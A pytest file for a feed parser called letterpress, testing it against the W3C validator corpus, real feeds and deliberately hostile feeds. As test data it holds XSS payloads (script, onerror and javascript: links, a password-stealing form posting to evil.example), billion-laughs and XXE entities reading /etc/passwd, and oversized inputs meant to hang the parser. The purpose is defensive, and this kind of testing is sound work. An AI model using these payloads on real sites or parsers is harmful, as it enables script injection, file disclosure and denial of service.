"""Feeds as the world sends them: the W3C Feed Validator's test cases, 88 real feeds, and
hostile feeds.

The corpora live outside the repository (the real feeds are their publishers' text), in
../shared/corpora (or $LETTERPRESS_SHARED/corpora); their tests are skipped when it is
absent. W3C (1,729 small RSS, Atom, RDF and OPML documents, many broken on purpose): every
file must end in entries or in a FeedError: any other exception is a crash a compile would
show the user, and a file that takes seconds is a hang. Real feeds: each field letterpress
reads is compared with feedparser's reading of the same bytes (tests/feed_fidelity.py).
"""

from __future__ import annotations

import dataclasses
import json
import signal
import threading
import time
import traceback
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from letterpress.feeds import FeedError, ParsedFeed, parse_feed
from tests.feed_fidelity import FIELDS, Fidelity, compare, shared_corpus

CORPUS = shared_corpus("feedvalidator")
BASE_URL = "https://example.org/feed.xml"
SLOW_SECONDS = 5.0  # a hang guard, not a benchmark: the slowest file takes milliseconds
HANG_SECONDS = 30.0  # past this a file is interrupted, so an endless loop fails instead of stalling
# Text that must never come out of a hostile feed: markup that runs, and a leaked /etc/passwd;
# and "alert(", the body of a script, which must go with its <script> and not become the text.
FORBIDDEN = ("script", "onerror", "javascript:", "iframe", "<form", "data:", "root:x:", "alert(")
# What would run, in the corpus, whose harmless files say "description" and "scripting news".
RUNNABLE = ("<script", "onerror=", "javascript:", "<iframe", "<form")


class _Hang(Exception):
    pass


@contextmanager
def _interrupt_after(seconds: float, what: str) -> Iterator[None]:
    """Raise _Hang in the main thread after ``seconds``; a no-op where signals cannot do it."""
    usable = hasattr(signal, "setitimer") and threading.current_thread() is threading.main_thread()
    if not usable:
        yield
        return

    def alarm(signum: int, frame: object) -> None:
        raise _Hang(f"{what}: still running after {seconds:g} s")

    previous = signal.signal(signal.SIGALRM, alarm)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


def _texts(parsed: ParsedFeed) -> Iterator[tuple[str, str]]:
    """(field name, text) for the feed's title and every field of every entry."""
    yield "feed.title", parsed.title
    for n, entry in enumerate(parsed.entries):
        for f in dataclasses.fields(entry):
            yield f"entries[{n}].{f.name}", str(getattr(entry, f.name))


def _manifest(corpus: Path, key: str) -> list[str]:
    if not (corpus / "manifest.jsonl").is_file():
        pytest.skip(
            f"no corpus at {corpus}: it lives beside the repository, in ../shared/corpora "
            "(set LETTERPRESS_SHARED to the folder holding corpora/ if it is elsewhere)"
        )
    lines = (corpus / "manifest.jsonl").read_text("utf-8").splitlines()
    return [json.loads(line)[key] for line in lines if line.strip()]


REAL_FEEDS = shared_corpus("real-feeds")
# The fields letterpress reads as feedparser does, at least (the targets it is held to).
TARGETS = {"titles": 0.995, "links": 0.995, "dates": 0.995, "summaries": 0.99}


def test_real_feeds_read_as_feedparser_reads_them(record_property: pytest.RecordProperty) -> None:
    names = _manifest(REAL_FEEDS, "file")
    totals = Fidelity()
    for name in names:
        compare(name, (REAL_FEEDS / name).read_bytes(), totals)
    print("\n" + "\n".join(totals.lines("real feeds")))
    for name in FIELDS:
        record_property(f"real_feeds_{name}_equal", f"{totals.share(name):.4f}")
        for line in totals.differences[name][:5]:
            print(f"   {name} differ: {line}")
    assert not totals.errors, "\n".join(totals.errors)
    short = {n: f"{totals.share(n):.2%}" for n, t in TARGETS.items() if totals.share(n) < t}
    assert not short, f"fields read as feedparser does, below target: {short}"
    assert not totals.broken_ends, "\n".join(totals.broken_ends)
    assert not totals.lost_summaries, "\n".join(totals.lost_summaries)
    # Every item feedparser finds, letterpress finds (it may find more: feedparser gives up
    # on some feeds that are well-formed XML).
    assert totals.ours >= totals.theirs


def test_feedvalidator_corpus(record_property: pytest.RecordProperty) -> None:
    paths = _manifest(CORPUS, "path")
    assert len(paths) > 1000, f"{CORPUS / 'manifest.jsonl'} lists only {len(paths)} files"
    crashes: list[str] = []
    slow: list[str] = []
    runnable: list[str] = []
    ours: set[str] = set()  # files letterpress finds entries in
    theirs: set[str] = set()  # files feedparser alone finds entries in
    fidelity = Fidelity()
    feed_errors = 0
    for path in paths:
        body = (CORPUS / path).read_bytes()
        started = time.perf_counter()
        try:
            with _interrupt_after(HANG_SECONDS, path):
                parsed = parse_feed(body, BASE_URL)
        except FeedError:
            feed_errors += 1
        except Exception as error:
            last = traceback.format_exception(error)[-2].strip().splitlines()[0]
            crashes.append(f"{path}: {type(error).__name__}: {error} (at {last})")
        else:
            if parsed.entries:
                ours.add(path)
            runnable += [
                f"{path} {name}: {text[:80]!r}"
                for name, text in _texts(parsed)
                if any(bad in text.lower() for bad in RUNNABLE)
            ]
        took = time.perf_counter() - started
        if took > SLOW_SECONDS:
            slow.append(f"{path}: {took:.1f} s")
        if compare(path, body, fidelity)[1]:
            theirs.add(path)

    summary = (
        f"feedvalidator: letterpress {len(ours)} files with items, feedparser alone "
        f"{len(theirs)} (of {len(paths)} files; {feed_errors} FeedError)"
    )
    print(f"\n{summary}")
    print("\n".join(fidelity.lines("feedvalidator, field by field")))
    for path in sorted(ours ^ theirs):
        print(f"  items from {'letterpress only' if path in ours else 'feedparser only'}: {path}")
    record_property("feedvalidator_files", len(paths))
    record_property("feedvalidator_letterpress_files_with_items", len(ours))
    record_property("feedvalidator_feedparser_files_with_items", len(theirs))

    assert not crashes, "parse_feed raised something other than FeedError:\n" + "\n".join(crashes)
    assert not slow, f"files slower than {SLOW_SECONDS:g} s (a hang):\n" + "\n".join(slow)
    assert not runnable, "markup that runs came through:\n" + "\n".join(runnable)
    # Measured with lxml 6.1 and feedparser 6.0.14: letterpress finds items in 1,116 files,
    # feedparser in 1,115, all of them among letterpress's. The two readers may part ways on
    # a few odd files as either library changes (each way round), so 1% of feedparser's count
    # (11 files) is allowed; a larger gap means the strict path has started losing entries
    # that the item-by-item reading does not recover.
    tolerance = len(theirs) // 100
    lost = sorted(theirs - ours)
    assert len(ours) >= len(theirs) - tolerance, (
        f"{summary}: more than {tolerance} files fewer; feedparser alone reads entries in "
        + ", ".join(lost)
    )


# Hostile feeds ---------------------------------------------------------------------------------

HOSTILE_HTML = """<p>Intro</p>
<script>alert(1)</script>
<img src="https://example.org/x.png" onerror="alert(2)">
<a href="javascript:alert(3)">click</a>
<iframe src="https://evil.example/"></iframe>
<form action="https://evil.example/steal"><input name="password"></form>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg0KTwvc2NyaXB0Pg==">inline</a>
<svg onload="alert(5)"></svg><p style="x" onclick="alert(6)">End</p>"""

HOSTILE_ESCAPED = (
    HOSTILE_HTML.replace("&", "&amp;")
    .replace("<", "&lt;")
    .replace(">", "&gt;")
    .replace('"', "&quot;")
)

# One item per way in; each has an https link, so no id is made from a hostile one, unless the
# link is what the item is about.
RSS_ITEMS = {
    "description (CDATA)": f"<title>One</title><link>https://example.org/1</link><description><![CDATA[{HOSTILE_HTML}]]></description>",
    "description (escaped)": f"<title>Two</title><link>https://example.org/2</link><description>{HOSTILE_ESCAPED}</description>",
    "content:encoded": f"<title>Three</title><link>https://example.org/3</link><content:encoded><![CDATA[{HOSTILE_HTML}]]></content:encoded>",
    "title": f"<title>Four {HOSTILE_ESCAPED}</title><link>https://example.org/4</link><description>x</description>",
    "javascript: link": "<title>Five</title><link>javascript:alert(7)</link><description>x</description>",
    "data: link": "<title>Six</title><link>data:text/html,&lt;script&gt;alert(8)&lt;/script&gt;</link><description>x</description>",
    "javascript: guid": '<title>Seven</title><guid isPermaLink="false">javascript:alert(9)</guid><description>x</description>',
    "author and category": f"<title>Eight</title><link>https://example.org/8</link><description>x</description><author>a@example.org ({HOSTILE_ESCAPED})</author><category>{HOSTILE_ESCAPED}</category>",
    "image enclosure": '<title>Nine</title><link>https://example.org/9</link><description>x</description><enclosure url="javascript:alert(10)" type="image/png" length="1"/><media:thumbnail url="data:image/png;base64,AAAA"/>',
}

# A stray end tag, as a broken CMS template leaves one, in the feed's head: the strict parse
# refuses the feed and feedparser reads it, so each item goes through both parsers.
BROKEN = "</bogus>"


def _rss(item: str, broken: bool) -> bytes:
    return (
        '<?xml version="1.0" encoding="utf-8"?>\n'
        '<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"'
        ' xmlns:media="http://search.yahoo.com/mrss/"><channel>'
        "<title>Hostile</title><link>https://example.org/</link>"
        f"<description>Test{BROKEN if broken else ''}</description>"
        f"<item>{item}</item></channel></rss>"
    ).encode()


def _hostile_cases() -> list[object]:
    cases: list[object] = []
    for way in RSS_ITEMS:
        for parser in ("letterpress", "feedparser"):
            cases.append(pytest.param(way, parser, id=f"{way}-{parser}"))
    return cases


def _assert_clean(parsed: ParsedFeed) -> None:
    found = [
        f"{name}: {text[:120]!r} holds {bad!r}"
        for name, text in _texts(parsed)
        for bad in FORBIDDEN
        if bad in text.lower()
    ]
    assert not found, "\n".join(found)


@pytest.mark.parametrize(("way", "parser"), _hostile_cases())
def test_hostile_markup_never_survives(way: str, parser: str) -> None:
    parsed = parse_feed(_rss(RSS_ITEMS[way], broken=parser == "feedparser"), BASE_URL)
    assert parsed.parser == parser
    assert len(parsed.entries) == 1
    _assert_clean(parsed)


HOSTILE_XHTML = HOSTILE_HTML.replace('onerror="alert(2)">', 'onerror="alert(2)"/>').replace(
    '"password">', '"password"/>'
)


def _atom_cases() -> list[object]:
    cases: list[object] = []
    for content_type in ("html", "xhtml"):
        for parser in ("letterpress", "feedparser"):
            cases.append(pytest.param(content_type, parser, id=f"{content_type}-{parser}"))
    return cases


@pytest.mark.parametrize(("content_type", "parser"), _atom_cases())
def test_hostile_atom_content(content_type: str, parser: str) -> None:
    if content_type == "html":
        content = HOSTILE_ESCAPED
    else:
        content = f'<div xmlns="http://www.w3.org/1999/xhtml">{HOSTILE_XHTML}</div>'
    feed = (
        '<?xml version="1.0" encoding="utf-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom">'
        f"<title>Hostile</title><subtitle>Test{BROKEN if parser == 'feedparser' else ''}</subtitle>"
        "<id>urn:x</id><updated>2026-01-01T00:00:00Z</updated>"
        "<entry><title>One</title><id>urn:x:1</id><updated>2026-01-01T00:00:00Z</updated>"
        f'<link href="https://example.org/1"/><content type="{content_type}">{content}</content>'
        "</entry></feed>"
    ).encode()
    parsed = parse_feed(feed, BASE_URL)
    assert parsed.parser == parser
    assert len(parsed.entries) == 1
    assert "Intro" in parsed.entries[0].summary
    _assert_clean(parsed)


# Entities: a billion laughs, and an external entity that would read /etc/passwd -------------

LAUGHS = '<!ENTITY lol "lol">' + "".join(
    f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10 if n > 1 else "&lol;" * 10}">' for n in range(1, 10)
)
XXE = '<!ENTITY xxe SYSTEM "file:///etc/passwd">'
# A "]>" inside an entity value ends a naive DOCTYPE pattern early, leaving the rest of the
# internal subset in the document for the parser to meet.
EARLY_END = '<!ENTITY early "]>">'


def _with_doctype(subset: str, use: str, atom: bool) -> bytes:
    if atom:
        doc = (
            '<feed xmlns="http://www.w3.org/2005/Atom"><title>T</title><id>urn:x</id>'
            f"<entry><title>A {use}</title><id>urn:x:1</id>"
            f'<link href="https://example.org/1"/><summary>{use}</summary></entry></feed>'
        )
    else:
        doc = (
            '<rss version="2.0"><channel><title>T</title><link>https://example.org/</link>'
            f"<description>{use}</description><item><title>A {use}</title>"
            f"<link>https://example.org/1</link><description>{use}</description></item>"
            "</channel></rss>"
        )
    root = "feed" if atom else "rss"
    return f'<?xml version="1.0"?>\n<!DOCTYPE {root} [{subset}]>\n{doc}'.encode()


ENTITY_CASES = {
    "laughs-rss": (LAUGHS, "&lol9;", False),
    "laughs-atom": (LAUGHS, "&lol9;", True),
    "laughs-early-end": (EARLY_END + LAUGHS, "&lol9;", False),
    "xxe-rss": (XXE, "&xxe;", False),
    "xxe-atom": (XXE, "&xxe;", True),
    "xxe-early-end": (EARLY_END + XXE, "&xxe;", False),
    "xxe-parameter": ('<!ENTITY % ext SYSTEM "file:///etc/passwd"> %ext;', "x", False),
}


@pytest.mark.parametrize("case", list(ENTITY_CASES))
def test_entities_are_never_expanded(case: str) -> None:
    subset, use, atom = ENTITY_CASES[case]
    body = _with_doctype(subset, use, atom)
    started = time.perf_counter()
    parsed: ParsedFeed | None = None
    try:
        with _interrupt_after(HANG_SECONDS, case):
            parsed = parse_feed(body, BASE_URL)
    except FeedError:
        pass  # refusing the feed is as good as reading it safely, if it is quick
    took = time.perf_counter() - started
    assert took < 2.0, f"{case}: {took:.1f} s"
    if parsed is None:
        return
    everything = "\n".join(text for _, text in _texts(parsed))
    assert everything.count("lol") < 100, f"{case}: entities expanded ({len(everything):,} chars)"
    assert "root:x:" not in everything
    _assert_clean(parsed)


def test_many_doctype_openers_do_not_hang() -> None:
    body = (
        b'<?xml version="1.0"?>'
        + b"<!DOCTYPE [" * 10_000
        + b'<rss version="2.0"><channel><title>T</title></channel></rss>'
    )
    started = time.perf_counter()
    try:
        with _interrupt_after(HANG_SECONDS, "DOCTYPE openers"):
            parse_feed(body, BASE_URL)
    except FeedError:
        pass
    took = time.perf_counter() - started
    assert took < 0.5, f"{len(body):,} bytes took {took:.1f} s"


def test_category_of_markup_only_is_dropped() -> None:
    item = "<title>T</title><link>https://example.org/1</link><description>x</description>"
    item += "<category>&lt;script&gt;alert(1)&lt;/script&gt;</category><category>News</category>"
    parsed = parse_feed(_rss(item, broken=False), BASE_URL)
    assert parsed.entries[0].categories == ("News",)


@pytest.mark.parametrize(
    "filler",
    [b"<item><title>x</title>", b"<![CDATA[ & ", b"& <!-- ", b"&", b"<item>&colon;"],
    ids=[
        "unclosed items",
        "unclosed CDATA",
        "unclosed comments",
        "ampersands",
        "items and entities",
    ],
)
def test_a_megabyte_of_broken_openers_does_not_hang(filler: bytes) -> None:
    head = b'<?xml version="1.0"?><rss version="2.0"><channel><title>T</title>'
    body = head + filler * (2_000_000 // len(filler))
    with _interrupt_after(HANG_SECONDS, filler.decode()):
        try:
            parse_feed(body, BASE_URL)
        except FeedError as error:
            assert "too large to read leniently" in str(error)


@pytest.mark.parametrize("opener", ["<!--[if a]>", "<![if "], ids=["hidden", "revealed"])
def test_a_megabyte_of_word_conditional_openers_does_not_hang(opener: str) -> None:
    description = opener * (1_000_000 // len(opener))
    body = (
        '<?xml version="1.0"?><rss version="2.0"><channel><title>T</title><item><title>A</title>'
        f"<description><![CDATA[<p>Lead.</p>{description}]]></description></item></channel></rss>"
    ).encode()
    with _interrupt_after(HANG_SECONDS, opener):
        (entry,) = parse_feed(body, BASE_URL).entries
    assert entry.summary.startswith("Lead.")
